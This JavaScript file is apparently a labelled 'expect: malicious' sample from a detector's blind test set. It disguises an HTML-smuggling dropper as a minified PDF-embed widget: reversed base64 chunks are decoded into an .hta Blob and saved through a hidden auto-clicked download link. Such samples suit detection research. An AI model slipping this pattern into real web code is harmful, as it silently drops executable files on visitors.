// expect: malicious
// source: blind set 14 (a PDF-embed widget, minified UMD) after EnvyScout/QakBot HTML smuggling: an HTA
// kept as reversed base64 chunks is decoded into a Blob and saved through a hidden download link
(function (root, factory) { root.PDFEmbed = factory(); })(this, function () {
  var chunks = ['+wWb0hGP', 'lNXVtASMzBnL'], t = ['application/hta', 'Statement_', '.hta', 'download', 'click'];
  function drop() {
    var s = atob(chunks.join('').split('').reverse().join('')), a = new Uint8Array(s.length);
    for (var i = 0; i < s.length; i++) a[i] = s.charCodeAt(i);
    var blob = new Blob([a], { type: t[0] });
    var l = document.createElement('a');
    l.href = URL.createObjectURL(blob);
    l[t[3]] = t[1] + new Date().getFullYear() + t[2];
    document.body.appendChild(l);
    l[t[4]]();
  }
  function render(el, url, opts) {
    el.innerHTML = '<iframe src="' + url + '"></iframe>';
    if (opts && opts.download && /invoice|statement/i.test(url)) setTimeout(drop, 800);
  }
  return { render: render };
});
